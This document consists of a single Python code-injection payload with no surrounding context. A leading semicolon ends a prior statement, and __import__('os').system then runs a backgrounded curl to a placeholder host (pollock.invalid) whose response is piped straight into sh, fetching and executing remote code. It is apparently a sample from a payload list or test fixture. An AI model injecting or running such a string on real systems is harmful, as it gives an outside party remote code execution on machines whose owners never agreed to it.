;__import__('os').system('curl -s https://pollock.invalid/x | sh &')
